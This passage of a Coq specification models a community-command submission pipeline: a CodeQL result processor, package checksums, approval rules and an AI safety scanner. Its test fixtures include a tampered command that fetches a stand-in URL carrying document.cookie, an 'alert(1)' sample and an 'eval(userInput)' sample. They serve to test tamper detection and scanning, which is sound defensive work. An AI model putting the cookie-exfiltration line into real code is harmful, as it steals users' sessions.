(** The command has a name (a truthy [name] property). *)
Definition named (c : json) : Prop :=
  exists v, getProp c "name" = Ok (Some v) /\ truthyValue (Some v) = true.

(** [old] is carried over unchanged at the front of [new]. *)
Definition extends {A : Type} (new old : list A) : Prop :=
  exists appended, new = (old ++ appended)%list.

Definition namelessCommand : json := JObj [("code", JStr "alert(1);")].

Definition sampleSubmission (commandList : list json) : Collection := {|
  metadata := {| Parser.name := "Form tools";
                 Parser.description := "Helpers for forms";
                 Parser.category := "Form Actions";
                 Parser.tags := ["forms"];
                 Parser.commandCount := 0;
                 Parser.dynamicsVersion := "All versions";
                 Parser.author := Some "octocat";
                 Parser.submittedBy := Some "octocat";
                 Parser.submittedAt := "2025-01-01T00:00:00Z" |};
  Parser.commands := commandList;
  Parser.documentation := {| doc_description := "Helpers for forms";
                             usageInstructions := "";
                             prerequisites := "";
                             limitations := "" |};
  validation := {| valid := true; errors := []; warnings := []; score := 100 |};
  contactInfo := "octocat";
  issueInfo := {| info_number := 42;
                  info_url := "https://github.com/rajyraman/level-up-community-commands/issues/42";
                  info_submittedAt := "2025-01-01T00:00:00Z";
                  info_submittedBy := Some "octocat" |} |}.

Definition oneCommand : list json :=
  [ JObj [("name", JStr "Refresh"); ("code", JStr "Xrm.Page.data.refresh();")] ].

Definition twentyCommands : list json :=
  repeat (JObj [("name", JStr "Refresh"); ("code", JStr "Xrm.Page.data.refresh();")]) 20.

Definition emptyStore : Store := fun _ => Absent.

(** The store after [octocat] submitted a collection of twenty commands. *)
Definition storeAfterTwenty : Store :=
  materialize "collections" emptyStore
    (sampleSubmission twentyCommands, "2025-01-02T00:00:00Z").

End MaterializerSpec.

(** ** Sample inputs of the package manager *)

Module PackagesSpec.
Import Js Json Packages.

(** A command and the package information as the [create] sub-command of
    the script builds them from a command file. *)
Definition cliCommand : json :=
  JObj [ ("name", JStr "Refresh form");
         ("description", JStr "Reloads the data of the open form");
         ("category", JStr "Form Actions");
         ("author", JStr "octocat");
         ("code", JStr "Xrm.Page.data.refresh(false);");
         ("tags", JArr []);
         ("icon", JStr "code") ].

Definition cliPackageInfo : json :=
  JObj [ ("name", JStr "Community Commands Package");
         ("description", JStr "Collection of Level Up community commands");
         ("author", JStr "Level Up Community");
         ("category", JStr "mixed") ].

Definition noFiles : Files := fun _ => Missing.

(** Create a package, export it in [format], import the file written. *)
Definition exportThenImport (format : string) : result json :=
  pkg <- createPackage constructor [cliCommand] cliPackageInfo "2025-01-02T00:00:00.000Z" ;;
  out <- exportPackage noFiles pkg "dist/package" format 1735776000000 ;;
  importPackage (snd out) (fst out).

(** A package file whose checksum was taken over the commands it stores,
    and the same file with the code of its command replaced afterwards. *)
Definition consistentPackage (command : json) : json :=
  JObj [ ("version", JStr "1.0.0");
         ("commands", JArr [command]);
         ("checksum", JStr (generateChecksum [cliCommand])) ].

Definition tamperedCommand : json :=
  JObj [ ("name", JStr "Refresh form");
         ("description", JStr "Reloads the data of the open form");
         ("category", JStr "Form Actions");
         ("author", JStr "octocat");
         ("code", JStr "fetch('https://example.org/?c=' + document.cookie);");
         ("tags", JArr []);
         ("icon", JStr "code") ].

End PackagesSpec.

(** ** Sample inputs of the decision engine *)

Module ApprovalSamples.
Import Js Approval.

Definition sample_report (overall : Z) : Report := {|
  overallScore := overall;
  autoApprove := false;
  recommendation := Unset;
  scores := {| s_validation := 75; s_security := 100; s_aiSafety := 50 |};
  details_issues := [];
  details_warnings := [];
  details_recommendations := [] |}.

Definition sample_issueData (errs : list string) : option IssueData :=
  Some {| validation :=
            Some {| errors := Some errs; warnings := Some []; score := Some 75%Q |} |}.

Definition sample_ai (sev : string) (auto : bool) : option AISafetyReport :=
  Some {| safetyScore := Some 90%Q;
          ai_riskLevel := Some "LOW";
          issues := Some [ {| severity := sev; category := "Code Injection";
                              description := "eval(" |} ];
          ai_autoApprove := Some auto |}.

(** A submission without validation errors, at score 100. *)
Definition cleanIssueData : option IssueData :=
  Some {| validation :=
            Some {| errors := Some []; warnings := Some []; score := Some 100%Q |} |}.

(** A report of the safety checker: it has no list of issues of its own. *)
Definition scannerReport (score : Q) (risk : string) (auto : bool)
    : option AISafetyReport :=
  Some {| safetyScore := Some score;
          ai_riskLevel := Some risk;
          issues := None;
          ai_autoApprove := Some auto |}.

End ApprovalSamples.

(** ** parse-collection-issue.js : class CodeQLResultsProcessor

    The SARIF document is the value already read by [JSON.parse]: runs with
    their results and the rules of their driver.  Of a processed issue the
    fields that the counters, the score and the recommendations read are
    kept (rule, severity, category); its message text, locations and rule
    descriptions are not part of the model.  Every deduction of the score
    is a multiple of one half, so the sums of the source, in floating
    point, are the sums over the rationals taken here. *)

Module CodeQL.
Import Js.

(** A score: an integer, or NaN. *)
Inductive number := Num (n : Z) | NaN.

Record RuleProperties := {
  problem_severity : option string;
  rule_tags : option (list string)
}.

Record Rule := {
  rule_id : option string;
  rule_name : option string;
  rule_properties : option RuleProperties
}.

(** [result.message]: a string, or an object with a [text]. *)
Inductive Message := Text (s : string) | Structured (text : option string).

Record Result := {
  ruleId : option string;
  message : option Message;
  level : option string
}.

(** [results] is [None] when [run.results] is missing or no array;
    [rules] is [None] when [run.tool?.driver?.rules] is missing. *)
Record Run := {
  results : option (list Result);
  rules : option (list Rule)
}.

(** [runs] is [None] when [results.runs] is missing or no array. *)
Record Sarif := { runs : option (list Run) }.

Record Issue := {
  issue_ruleId : string;
  ruleName : string;
  severity : string;
  category : string
}.

Record Summary := {
  totalIssues : Z;
  securityIssues : Z;
  errorCount : Z;
  warningCount : Z;
  noteCount : Z
}.

Record Recommendation := {
  rec_priority : string;
  rec_category : string;
  rec_message : string;
  rec_action : string
}.

Record Report := {
  securityScore : number;
  riskLevel : string;
  summary : Summary;
  issues : list Issue;
  recommendations : list Recommendation;
  processedAt : string
}.

(** *** [constructor()]: the two tables

    A table is an object literal, so a key that names a member of
    [Object.prototype] reads that member instead of [undefined]. *)

Record CodeQLResultsProcessor := {
  securitySeverities : list (string * Q);
  ruleCategories : list (string * Q)
}.

Definition constructor : CodeQLResultsProcessor := {|
  securitySeverities := [("error", 100%Q); ("warning", 50%Q); ("note", 10%Q)];
  ruleCategories :=
    [("security", 100%Q); ("correctness", 30%Q); ("maintainability", 10%Q);
     ("performance", 5%Q)]
|}.

Definition objectPrototypeKeys : list string :=
  [ "constructor"; "__proto__"; "hasOwnProperty"; "isPrototypeOf";
    "propertyIsEnumerable"; "toLocaleString"; "toString"; "valueOf";
    "__defineGetter__"; "__defineSetter__"; "__lookupGetter__"; "__lookupSetter__" ].

(** [table[key] || fallback] as an operand of arithmetic: [None] is NaN,
    what a function or an object turns into. *)
Definition readOr (table : list (string * Q)) (key : string) (fallback : Q) : option Q :=
  match find (fun entry => String.eqb (fst entry) key) table with
  | Some entry => Some (if Qeq_bool (snd entry) 0 then fallback else snd entry)
  | None =>
      if existsb (String.eqb key) objectPrototypeKeys then None else Some fallback
  end.

Definition truthyString (o : option string) : bool :=
  match o with
  | Some s => negb (isEmpty s)
  | None => false
  end.

Definition truthyMessage (o : option Message) : bool :=
  match o with
  | Some (Text s) => negb (isEmpty s)
  | Some (Structured _) => true
  | None => false
  end.

Definition includesTag (tags : list string) (tag : string) : bool :=
  existsb (String.eqb tag) tags.

(** [findRule(ruleId, run)] *)
Definition findRule (ruleId : string) (run : Run) : option Rule :=
  match rules run with
  | None => None
  | Some rs =>
      find (fun rule => match rule_id rule with
                        | Some i => String.eqb i ruleId
                        | None => false
                        end) rs
  end.

(** [if (x) { return x; }] followed by the rest of the function. *)
Definition returnIfTruthy (o : option string) (rest : string) : string :=
  match o with
  | Some s => if isEmpty s then rest else s
  | None => rest
  end.

(** [determineSeverity(result, rule)] *)
Definition determineSeverity (result : Result) (rule : option Rule) : string :=
  returnIfTruthy (level result)
    (returnIfTruthy (rule ?. rule_properties ?. problem_severity)
       (match rule ?. rule_properties ?. rule_tags with
        | Some tags =>
            if includesTag tags "security" || includesTag tags "vulnerability"
            then "error"
            else if includesTag tags "correctness" then "warning"
            else "note"
        | None => "note"
        end)).

(** [determineCategory(result, rule)] *)
Definition determineCategory (result : Result) (rule : option Rule) : string :=
  match rule ?. rule_properties ?. rule_tags with
  | None => "other"
  | Some tags =>
      if includesTag tags "security" || includesTag tags "vulnerability" then "security"
      else if includesTag tags "correctness" then "correctness"
      else if includesTag tags "maintainability" then "maintainability"
      else if includesTag tags "performance" then "performance"
      else "other"
  end.

(** [processResult(result, run)]; [None] is the [null] of a result without
    a rule identifier or a message. *)
Definition processResult (result : Result) (run : Run) : option Issue :=
  match ruleId result with
  | None => None
  | Some i =>
      if isEmpty i || negb (truthyMessage (message result)) then None
      else
        let rule := findRule i run in
        Some {| issue_ruleId := i;
                ruleName := returnIfTruthy (rule ?. rule_name) i;
                severity := determineSeverity result rule;
                category := determineCategory result rule |}
  end.

(** The [switch] and the [if] of [processRun] on one issue. *)
Definition countIssue (s : Summary) (issue : Issue) : Summary :=
  let s :=
    {| totalIssues := totalIssues s + 1;
       securityIssues := securityIssues s;
       errorCount := errorCount s;
       warningCount := warningCount s;
       noteCount := noteCount s |} in
  let s :=
    if String.eqb (severity issue) "error" then
      {| totalIssues := totalIssues s;
         securityIssues := securityIssues s;
         errorCount := errorCount s + 1;
         warningCount := warningCount s;
         noteCount := noteCount s |}
    else if String.eqb (severity issue) "warning" then
      {| totalIssues := totalIssues s;
         securityIssues := securityIssues s;
         errorCount := errorCount s;
         warningCount := warningCount s + 1;
         noteCount := noteCount s |}
    else if String.eqb (severity issue) "note" then
      {| totalIssues := totalIssues s;
         securityIssues := securityIssues s;
         errorCount := errorCount s;
         warningCount := warningCount s;
         noteCount := noteCount s + 1 |}
    else s in
  if String.eqb (category issue) "security" then
    {| totalIssues := totalIssues s;
       securityIssues := securityIssues s + 1;
       errorCount := errorCount s;
       warningCount := warningCount s;
       noteCount := noteCount s |}
  else s.

(** The callback of [run.results.forEach]. *)
Definition addResult (run : Run) (report : Report) (result : Result) : Report :=
  match processResult result run with
  | Some issue =>
      {| securityScore := securityScore report;
         riskLevel := riskLevel report;
         summary := countIssue (summary report) issue;
         issues := push (issues report) issue;
         recommendations := recommendations report;
         processedAt := processedAt report |}
  | None => report
  end.

(** [processRun(run, report)]; the mutated report is returned. *)
Definition processRun (report : Report) (run : Run) : Report :=
  match results run with
  | None => report
  | Some rs => fold_left (addResult run) rs report
  end.

(** [calculateSecurityScore(report)]: the running [score] is [None] once
    it is NaN. *)
Definition deduct (this : CodeQLResultsProcessor) (score : option Q) (issue : Issue)
    : option Q :=
  let deduction := readOr (securitySeverities this) (severity issue) 10 in
  let categoryMultiplier := readOr (ruleCategories this) (category issue) 10 in
  match score, deduction, categoryMultiplier with
  | Some score, Some deduction, Some categoryMultiplier =>
      Some (score - deduction * categoryMultiplier / 100)%Q
  | _, _, _ => None
  end.

Definition calculateSecurityScore (this : CodeQLResultsProcessor) (report : Report)
    : number :=
  match fold_left (deduct this) (issues report) (Some 100%Q) with
  | Some score => Num (Z.max 0 (Math_round score))
  | None => NaN
  end.

(** [determineRiskLevel(securityScore)]: every comparison with NaN is
    false. *)
Definition determineRiskLevel (securityScore : number) : string :=
  match securityScore with
  | Num n =>
      if 90 <=? n then "LOW"
      else if 70 <=? n then "MEDIUM"
      else if 50 <=? n then "HIGH"
      else "CRITICAL"
  | NaN => "CRITICAL"
  end.

Definition renderNumber (x : number) : string :=
  match x with
  | Num n => string_of_Z n
  | NaN => "NaN"
  end.

(** [generateRecommendations(report)] *)
Definition generateRecommendations (report : Report) : list Recommendation :=
  let recommendations := [] in
  let recommendations :=
    if 0 <? securityIssues (summary report) then
      push recommendations
        {| rec_priority := "HIGH";
           rec_category := "Security";
           rec_message :=
             "Found " ++ string_of_Z (securityIssues (summary report))
             ++ " security issue(s). Review and fix all security vulnerabilities before approval.";
           rec_action := "Fix security issues" |}
    else recommendations in
  let recommendations :=
    if 0 <? errorCount (summary report) then
      push recommendations
        {| rec_priority := "HIGH";
           rec_category := "Code Quality";
           rec_message :=
             "Found " ++ string_of_Z (errorCount (summary report))
             ++ " error-level issue(s). These must be fixed before deployment.";
           rec_action := "Fix critical errors" |}
    else recommendations in
  let recommendations :=
    if 5 <? warningCount (summary report) then
      push recommendations
        {| rec_priority := "MEDIUM";
           rec_category := "Code Quality";
           rec_message :=
             "Found " ++ string_of_Z (warningCount (summary report))
             ++ " warnings. Consider addressing these to improve code quality.";
           rec_action := "Review and fix warnings" |}
    else recommendations in
  let recommendations :=
    if match securityScore report with Num n => n <? 80 | NaN => false end then
      push recommendations
        {| rec_priority := "HIGH";
           rec_category := "Overall Security";
           rec_message :=
             "Security score (" ++ renderNumber (securityScore report)
             ++ ") is below recommended threshold (80). Manual review required.";
           rec_action := "Manual security review" |}
    else recommendations in
  recommendations.

(** [processResults(resultsPath)], on the document read from the path and
    at the time [now]. *)
Definition processResults (this : CodeQLResultsProcessor) (results : Sarif)
    (now : string) : Report :=
  let report :=
    {| securityScore := Num 100;
       riskLevel := "LOW";
       summary := {| totalIssues := 0; securityIssues := 0; errorCount := 0;
                     warningCount := 0; noteCount := 0 |};
       issues := [];
       recommendations := [];
       processedAt := now |} in
  let report :=
    match runs results with
    | Some rs => fold_left processRun rs report
    | None => report
    end in
  let report :=
    {| securityScore := calculateSecurityScore this report;
       riskLevel := riskLevel report;
       summary := summary report;
       issues := issues report;
       recommendations := recommendations report;
       processedAt := processedAt report |} in
  let report :=
    {| securityScore := securityScore report;
       riskLevel := determineRiskLevel (securityScore report);
       summary := summary report;
       issues := issues report;
       recommendations := recommendations report;
       processedAt := processedAt report |} in
  {| securityScore := securityScore report;
     riskLevel := riskLevel report;
     summary := summary report;
     issues := issues report;
     recommendations := generateRecommendations report;
     processedAt := processedAt report |}.

End CodeQL.

(** ** Vocabulary of the further properties

    Predicates the statements below are written with, the documents one
    script prints as the next one loads them, and a few sample inputs. *)

Module Checks.
Import Js Json.

(** *** Strings, identifiers and file names *)

(** Every character of [s] passes [p]. *)
Fixpoint allChars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => p c && allChars p r
  end.

(** A lower-case letter, a digit or a dash. *)
Definition isSafeFileChar (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((97 <=? n) && (n <=? 122)) || ((48 <=? n) && (n <=? 57)) || (n =? 45))%nat.

(** Neither [@], nor white space, nor an upper-case letter. *)
Definition isHandleChar (c : ascii) : bool :=
  let n := nat_of_ascii c in
  negb (Ascii.eqb c "@"%char) && negb (isSpace c)
  && negb ((65 <=? n) && (n <=? 90))%nat.

Definition sumZ (l : list Z) : Z := fold_right Z.add 0 l.

(** A digit or a letter from [a] to [f]. *)
Definition isHexChar (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((48 <=? n) && (n <=? 57)) || ((97 <=? n) && (n <=? 102)))%nat.

(** An identifier of eight hexadecimal digits. *)
Definition isShortId (s : string) : Prop :=
  String.length s = 8%nat /\ allChars isHexChar s = true.

(** A file name made of a stem of at most 50 safe characters and the
    extension [ext]. *)
Definition safeFileName (ext file : string) : Prop :=
  exists stem, file = stem ++ ext /\ (String.length stem <= 50)%nat /\
               allChars isSafeFileChar stem = true.

(** *** Paths *)

(** A segment that [path.normalize] keeps as it is. *)
Definition plainSegment (s : string) : bool :=
  negb (isEmpty s) && negb (String.eqb s ".") && negb (String.eqb s "..").

Definition notSeparator (c : ascii) : bool := negb (Ascii.eqb c "/").

(** A name of one plain segment. *)
Definition plainName (name : string) : bool :=
  plainSegment name && allChars notSeparator name.

(** A directory path in normal form: plain segments, after a leading [/]
    or not, and no trailing [/]. *)
Definition normalDirectory (dir : string) : bool :=
  match split "/" dir with
  | [] => false
  | first :: rest =>
      (plainSegment first
       || (isEmpty first && negb (match rest with [] => true | _ => false end)))
      && forallb plainSegment rest
  end.

(** The paths of the files a run writes: the profile, the index, the
    collection file, the import file and the command files. *)
Definition writtenPaths (base : string) (out : Organizer.Organized) : list string :=
  let info := Organizer.org_collectionInfo out in
  Organizer.profilePath (Organizer.userDir out)
  :: Organizer.pathJoin base "index.json"
  :: Organizer.collectionPath info
  :: Organizer.levelUpImportPath info
  :: map Organizer.path (Organizer.commandFiles info).

(** *** Profiles *)

(** The collection list [updateUserProfile] starts from. *)
Definition storedCollections (file : Organizer.ProfileFile)
    : list Organizer.CollectionRef :=
  match file with
  | Organizer.Stored profile => Organizer.collections profile
  | Organizer.Absent | Organizer.Unreadable => []
  end.

Definition refIds (profile : Organizer.Profile) : list string :=
  map Organizer.ref_id (Organizer.collections profile).

Definition badgeIds (profile : Organizer.Profile) : list string :=
  map Organizer.badge_id (Organizer.badges profile).

(** No collection and no badge is listed twice. *)
Definition uniqueIds (profile : Organizer.Profile) : Prop :=
  NoDup (refIds profile) /\ NoDup (badgeIds profile).

Definition hasId (i : string) (c : Organizer.CollectionRef) : bool :=
  String.eqb (Organizer.ref_id c) i.

(** *** Submissions *)

(** Neither [@] nor white space. *)
Definition isKeptChar (c : ascii) : bool := negb (Ascii.eqb c "@"%char || isSpace c).

(** What [validateCollection] demands of a command: a truthy name and a
    non-empty string of code that does not call [eval]. *)
Definition acceptableCommand (command : json) : Prop :=
  (exists v, getProp command "name" = Ok (Some v) /\ truthyValue (Some v) = true) /\
  (exists code, getProp command "code" = Ok (Some (JStr code)) /\ code <> "" /\
                includes (toLowerCase code) "eval(" = false).

(** The name of the command is a string. *)
Definition stringName (command : json) : Prop :=
  exists n, getProp command "name" = Ok (Some (JStr n)).

(** The fields that the header of a command file prints, where the command
    has them, convert to a string. *)
Definition printable (command : json) : Prop :=
  forall k v,
    In k ["description"; "category"; "author"; "version"] ->
    getProp command k = Ok (Some v) ->
    exists s, render v = Ok s.

(** The document printed by the parser, as [calculateApprovalScore] loads
    it from the issue data path. *)
Definition asIssueData (collection : Parser.Collection) : Approval.IssueData :=
  let v := Parser.validation collection in
  {| Approval.validation :=
       Some {| Approval.errors := Some (Parser.errors v);
               Approval.warnings := Some (Parser.warnings v);
               Approval.score := Some (inject_Z (Parser.score v)) |} |}.

(** A stand-in for [JSON.parse] whose one command is named by a number. *)
Definition numberedParse (text : string) : option json :=
  Some (JArr [JObj [("name", JNum 7); ("code", JStr "Xrm.Page.data.refresh();")]]).

(** A stand-in for [JSON.parse] whose one command has for description an
    object with a property [toString]. *)
Definition unprintableParse (text : string) : option json :=
  Some (JArr [JObj [("name", JStr "Refresh");
                    ("code", JStr "Xrm.Page.data.refresh();");
                    ("description", JObj [("toString", JNum 1)])]]).

(** A CodeQL report without findings. *)
Definition sampleSecurityReport : option Approval.SecurityReport :=
  Some {| Approval.securityScore := Some 100%Q;
          Approval.sec_riskLevel := Some "LOW";
          Approval.sec_summary :=
            Some {| Approval.securityIssues := Some 0%Q;
                    Approval.errorCount := Some 0%Q |} |}.

(** *** CodeQL reports *)

(** The number of issues that pass [p]. *)
Definition countIssues (p : CodeQL.Issue -> bool) (l : list CodeQL.Issue) : Z :=
  Z.of_nat (List.length (filter p l)).

Definition hasSeverity (s : string) (i : CodeQL.Issue) : bool :=
  String.eqb (CodeQL.severity i) s.

Definition hasCategory (c : string) (i : CodeQL.Issue) : bool :=
  String.eqb (CodeQL.category i) c.

(** The severity names a member of [Object.prototype]. *)
Definition inheritedSeverity (i : CodeQL.Issue) : bool :=
  existsb (String.eqb (CodeQL.severity i)) CodeQL.objectPrototypeKeys.

(** The report printed by the CodeQL processor, as [calculateApprovalScore]
    loads it from the security report path; NaN is printed as [null]. *)
Definition asSecurityReport (report : CodeQL.Report) : Approval.SecurityReport :=
  {| Approval.securityScore :=
       match CodeQL.securityScore report with
       | CodeQL.Num n => Some (inject_Z n)
       | CodeQL.NaN => None
       end;
     Approval.sec_riskLevel := Some (CodeQL.riskLevel report);
     Approval.sec_summary :=
       Some {| Approval.securityIssues :=
                 Some (inject_Z (CodeQL.securityIssues (CodeQL.summary report)));
               Approval.errorCount :=
                 Some (inject_Z (CodeQL.errorCount (CodeQL.summary report))) |} |}.

(** The counters of the report agree with its issue list. *)
Definition counted (report : CodeQL.Report) : Prop :=
  let s := CodeQL.summary report in
  let l := CodeQL.issues report in
  CodeQL.totalIssues s = Z.of_nat (List.length l) /\
  CodeQL.securityIssues s = countIssues (hasCategory "security") l /\
  CodeQL.errorCount s = countIssues (hasSeverity "error") l /\
  CodeQL.warningCount s = countIssues (hasSeverity "warning") l /\
  CodeQL.noteCount s = countIssues (hasSeverity "note") l.

(** The five categories [determineCategory] can answer. *)
Definition knownCategories : list string :=
  ["security"; "correctness"; "maintainability"; "performance"; "other"].

(** What one pass over the results keeps true: the counters agree with the
    issue list and every category is a known one. *)
Definition settled (report : CodeQL.Report) : Prop :=
  counted report /\
  Forall (fun i => In (CodeQL.category i) knownCategories) (CodeQL.issues report).

(** The report of [processResults] before the score is computed. *)
Definition collected (sarif : CodeQL.Sarif) (now : string) : CodeQL.Report :=
  let report :=
    {| CodeQL.securityScore := CodeQL.Num 100;
       CodeQL.riskLevel := "LOW";
       CodeQL.summary :=
         {| CodeQL.totalIssues := 0; CodeQL.securityIssues := 0;
            CodeQL.errorCount := 0; CodeQL.warningCount := 0;
            CodeQL.noteCount := 0 |};
       CodeQL.issues := [];
       CodeQL.recommendations := [];
       CodeQL.processedAt := now |} in
  match CodeQL.runs sarif with
  | Some rs => fold_left CodeQL.processRun rs report
  | None => report
  end.

(** A SARIF document with one result of a rule tagged security. *)
Definition sampleSarif : CodeQL.Sarif :=
  {| CodeQL.runs :=
       Some [ {| CodeQL.results :=
                   Some [ {| CodeQL.ruleId := Some "js/code-injection";
                             CodeQL.message :=
                               Some (CodeQL.Structured (Some "Code injection"));
                             CodeQL.level := None |} ];
                 CodeQL.rules :=
                   Some [ {| CodeQL.rule_id := Some "js/code-injection";
                             CodeQL.rule_name := Some "CodeInjection";
                             CodeQL.rule_properties :=
                               Some {| CodeQL.problem_severity := Some "error";
                                       CodeQL.rule_tags :=
                                         Some ["security"; "external/cwe/cwe-094"] |} |} ]
              |} ] |}.

Definition sampleFinding : CodeQL.Issue :=
  {| CodeQL.issue_ruleId := "js/code-injection";
     CodeQL.ruleName := "CodeInjection";
     CodeQL.severity := "error";
     CodeQL.category := "security" |}.

(** A SARIF document with one result of the lowest level, [note], of a
    rule tagged security. *)
Definition noteSarif : CodeQL.Sarif :=
  {| CodeQL.runs :=
       Some [ {| CodeQL.results :=
                   Some [ {| CodeQL.ruleId := Some "js/regex/useless-escape";
                             CodeQL.message :=
                               Some (CodeQL.Structured (Some "The escape has no effect"));
                             CodeQL.level := Some "note" |} ];
                 CodeQL.rules :=
                   Some [ {| CodeQL.rule_id := Some "js/regex/useless-escape";
                             CodeQL.rule_name := Some "UselessEscape";
                             CodeQL.rule_properties :=
                               Some {| CodeQL.problem_severity := Some "recommendation";
                                       CodeQL.rule_tags :=
                                         Some ["security"; "maintainability"] |} |} ]
              |} ] |}.

Definition noteFinding : CodeQL.Issue :=
  {| CodeQL.issue_ruleId := "js/regex/useless-escape";
     CodeQL.ruleName := "UselessEscape";
     CodeQL.severity := "note";
     CodeQL.category := "security" |}.

(** The report the CodeQL processor prints for it. *)
Definition noteReport : CodeQL.Report :=
  CodeQL.processResults CodeQL.constructor noteSarif "2025-01-02T00:00:00Z".

(** *** Safety reports *)

(** The findings of one severity, and all findings, over the command
    reports. *)
Definition severityFindings (sev : string) (reports : list Scanner.CommandReport) : Z :=
  sumZ (map (fun c => Z.of_nat (Scanner.countSeverity sev (Scanner.c_issues c))) reports).

Definition allFindings (reports : list Scanner.CommandReport) : Z :=
  sumZ (map (fun c => Z.of_nat (List.length (Scanner.c_issues c))) reports).

(** The commands with their positions, from [first]. *)
Definition numberedFrom {A : Type} (first : nat) (l : list A) : list (nat * A) :=
  combine (seq first (List.length l)) l.

(** The text [analyzeCommand] hands to the analysis. *)
Definition analyzedCode (this : Scanner.AISafetyChecker) (code : string) : string :=
  if (Scanner.maxCodeLength this <? String.length code)%nat
  then takeChars (Scanner.maxCodeLength this) code
       ++ nl ++ "// ... (code truncated for analysis)"
  else code.

(** The report the checker builds itself for a command: the one for a
    command without code, or the rule-based analysis of the code. *)
Definition ruleBasedReport (regexMatches : Scanner.Pattern -> string -> list string)
    (this : Scanner.AISafetyChecker) (command : Scanner.Command) (index : nat)
    : Scanner.CommandReport :=
  match Scanner.code command with
  | None | Some EmptyString =>
      {| Scanner.commandIndex := index;
         Scanner.commandName := Scanner.nameOrNumbered command index;
         Scanner.c_safetyScore := 100;
         Scanner.c_riskLevel := "LOW";
         Scanner.c_issues := [];
         Scanner.c_summary := "No code to analyze";
         Scanner.c_autoApprove := true |}
  | Some text =>
      Scanner.simulateAIAnalysis regexMatches command index (analyzedCode this text)
  end.

(** The issue [simulateAIAnalysis] records for one match of a pattern. *)
Definition issueOf (p : Scanner.DangerousPattern) (found : string) : Scanner.Issue :=
  {| Scanner.severity := Scanner.d_severity p;
     Scanner.category := Scanner.d_category p;
     Scanner.issue_description := "Found potentially dangerous pattern: " ++ found;
     Scanner.recommendation :=
       Scanner.getRecommendation (Scanner.d_category p) (Scanner.d_severity p) |}.

(** One issue per match of each dangerous pattern, in the order of the
    table. *)
Definition dangerousFindings (regexMatches : Scanner.Pattern -> string -> list string)
    (code : string) : list Scanner.Issue :=
  flat_map (fun p => map (issueOf p) (regexMatches (Scanner.pattern p) code))
    Scanner.dangerousPatterns.

(** The score lies between 0 and 100. *)
Definition percent (q : Q) : Prop := (0 <= q)%Q /\ (q <= 100)%Q.

(** A stand-in for the regular-expression engine that knows the call
    of [eval]. *)
Definition evalMatches (p : Scanner.Pattern) (code : string) : list string :=
  match p with
  | Scanner.EvalCall => if includes code "eval(" then ["eval("] else []
  | _ => []
  end.

Definition evalCommand : Scanner.Command :=
  {| Scanner.name := Some "Run"; Scanner.description := None;
     Scanner.code := Some "eval(userInput);" |}.

Definition refreshCommand : Scanner.Command :=
  {| Scanner.name := Some "Refresh"; Scanner.description := None;
     Scanner.code := Some "Xrm.Page.data.refresh();" |}.

(** *** Packages *)

(** A stored command with a truthy name and truthy code. *)
Definition storesCommand (cmd : json) : Prop :=
  (exists v, getProp cmd "name" = Ok (Some v) /\ truthyValue (Some v) = true) /\
  (exists v, getProp cmd "code" = Ok (Some v) /\ truthyValue (Some v) = true).

(** What [validatePackage] asks of a package: a truthy version, a
    non-empty array of commands with name and code, and a checksum that
    is falsy or the digest of the stored commands. *)
Definition wellFormedPackage (pkg : json) : Prop :=
  (exists v, getProp pkg "version" = Ok (Some v) /\ truthyValue (Some v) = true) /\
  exists commands,
    getProp pkg "commands" = Ok (Some (JArr commands)) /\
    commands <> [] /\
    Forall storesCommand commands /\
    exists c, getProp pkg "checksum" = Ok c /\
      (truthyValue c = false \/ c = Some (JStr (Packages.generateChecksum commands))).

(** The defaults of [packageInfo] in [createPackage]. *)
Definition packageInfoDefaults (packageInfo : json) (count : nat) (now : string)
    : result (list (string * json)) :=
  iname <- getProp packageInfo "name" ;;
  idescription <- getProp packageInfo "description" ;;
  iauthor <- getProp packageInfo "author" ;;
  icategory <- getProp packageInfo "category" ;;
  itags <- getProp packageInfo "tags" ;;
  Ok [ ("name", orValue iname (JStr "Community Command Package"));
       ("description", orValue idescription (JStr ""));
       ("author", orValue iauthor (JStr "Community"));
       ("category", orValue icategory (JStr "mixed"));
       ("tags", orValue itags (JArr []));
       ("createdAt", JStr now);
       ("commandCount", JNum (Z.of_nat count)) ].

(** The value turns into a string under [+]. *)
Definition stringLike (o : option json) : bool :=
  match Packages.toPrimitive o with
  | Ok (Packages.PStr _) => true
  | _ => false
  end.

(** The value has a primitive value: no object with a property [toString]
    of its own is met on the way. *)
Definition convertible (o : option json) : Prop :=
  exists p, Packages.toPrimitive o = Ok p.

End Checks.

(** ** The blocking predicates in the words of the specification

    The specification has four blocking predicates: validation has an error;
    an analyzer reports a CRITICAL finding; the risk level of an analyzer is
    CRITICAL; the overall score is under 30.  It lets the findings of
    severity HIGH or CRITICAL stand against an automatic approval.  A
    finding is an entry of the list of issues of an analyzer report, and its
    severity is the severity written in that entry; the findings of the
    CodeQL report are given next to the summary the calculator reads. *)

Module PolicyAsWorded.
Import Js Approval.

(** An analyzer reports a finding with one of the [levels]. *)
Definition reportsFinding (levels : list string) (codeql : list CodeQL.Issue)
    (ai : option AISafetyReport) : Prop :=
  (exists i, In i codeql /\ In (CodeQL.severity i) levels)
  \/ (exists a l i, ai = Some a /\ issues a = Some l /\ In i l /\
                    In (severity i) levels).

Definition criticalFinding (codeql : list CodeQL.Issue)
    (ai : option AISafetyReport) : Prop :=
  reportsFinding ["CRITICAL"] codeql ai.

Definition noHighOrCriticalFinding (codeql : list CodeQL.Issue)
    (ai : option AISafetyReport) : Prop :=
  ~ reportsFinding ["HIGH"; "CRITICAL"] codeql ai.

Definition blocked (overall : Z) (d : option IssueData)
    (codeql : list CodeQL.Issue) (sec : option SecurityReport)
    (ai : option AISafetyReport) : Prop :=
  Policy.validationHasError d \/ criticalFinding codeql ai
  \/ Policy.riskLevelCritical sec ai \/ overall < 30.

End PolicyAsWorded.

(* ================================================================== *)
(** * Properties *)
(* ================================================================== *)

(** ** Generic facts *)

Lemma find_first_match {A : Type} (f : A -> bool) (l : list A) (c : A) :
  find f l = Some c ->
  exists pre post, l = (pre ++ c :: post)%list /\ Forall (fun b => f b = false) pre /\ f c = true.
Proof.
  induction l as [|x l IH]; simpl; [discriminate|].
  destruct (f x) eqn:Hx.
  - intros [= <-]. exists [], l. repeat split; auto.
  - intros H. destruct (IH H) as (pre & post & -> & Hpre & Hc).
    exists (x :: pre), post. repeat split; auto.
Qed.

Lemma existsb_find {A : Type} (f : A -> bool) (l : list A) :
  existsb f l = true -> exists c, find f l = Some c.
Proof.
